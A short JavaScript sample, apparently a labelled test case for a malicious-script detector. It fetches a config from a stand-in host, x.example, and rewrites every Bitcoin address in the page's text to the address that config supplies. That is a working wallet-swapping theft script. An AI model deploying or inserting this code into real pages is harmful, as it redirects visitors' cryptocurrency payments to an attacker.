// expect: wallet-address-replaced
const walk = (n) => { if (n.nodeType === 3) { n.nodeValue = n.nodeValue.replace(/\b(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}\b/g, cfg.btc); } else n.childNodes.forEach(walk); }; let cfg = {}; fetch("https://x.example/w").then((r) => r.json()).then((c) => { cfg = c; walk(document.body); });
